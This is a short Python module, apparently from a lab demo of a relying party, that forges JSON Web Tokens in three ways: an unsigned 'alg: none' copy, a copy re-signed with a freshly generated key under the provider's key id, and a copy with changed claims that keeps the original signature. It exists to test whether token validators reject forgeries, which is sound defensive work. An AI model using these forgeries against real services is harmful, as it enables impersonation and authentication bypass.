"""Forged JWTs, made from genuine ones: what an attacker who holds a token (or knows its shape)
can produce without the provider's private key.

- :func:`unsigned`: the same header and claims with ``"alg": "none"`` and no signature
  (RFC 7519 §6, the "unsecured JWT" that a validator must refuse when it expects a signature);
- :func:`signed_with_lab_key`: the claims signed with a key the lab made, under the provider's
  ``kid`` and algorithm;
- :func:`altered`: the claims changed, the provider's header and signature kept.
"""

from __future__ import annotations

import base64
import json
from typing import Any

from joserfc import jwt
from joserfc.jwk import ECKey, OKPKey, RSAKey

from relying_party_demo.lab.protocol import json_part

_CURVES = {"ES256": "P-256", "ES384": "P-384", "ES512": "P-521"}


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def _encode(part: dict[str, Any]) -> str:
    return b64url(json.dumps(part, separators=(",", ":")).encode())


def unsigned(token: str, **changes: Any) -> str:
    header = {**json_part(token, 0), "alg": "none"}
    claims = {**json_part(token, 1), **changes}
    return f"{_encode(header)}.{_encode(claims)}."


def signed_with_lab_key(token: str, **changes: Any) -> str:
    """The claims (with ``changes``) signed by a new key of the lab's, under the token's own
    ``kid`` and algorithm (ES256 when the algorithm is not an asymmetric one we know)."""
    header = json_part(token, 0)
    alg = str(header.get("alg", "ES256"))
    key: ECKey | RSAKey | OKPKey
    if alg in _CURVES:
        key = ECKey.generate_key(_CURVES[alg])
    elif alg.startswith(("RS", "PS")):
        key = RSAKey.generate_key(2048)
    elif alg == "EdDSA":
        key = OKPKey.generate_key("Ed25519")
    else:
        alg, key = "ES256", ECKey.generate_key("P-256")
    forged_header = {**header, "alg": alg}
    claims = {**json_part(token, 1), **changes}
    return jwt.encode(forged_header, claims, key, algorithms=[alg])


def altered(token: str, **changes: Any) -> str:
    """The token's header and signature, around claims with ``changes`` applied."""
    parts = token.split(".")
    claims = {**json_part(token, 1), **changes}
    return f"{parts[0]}.{_encode(claims)}.{parts[-1]}"
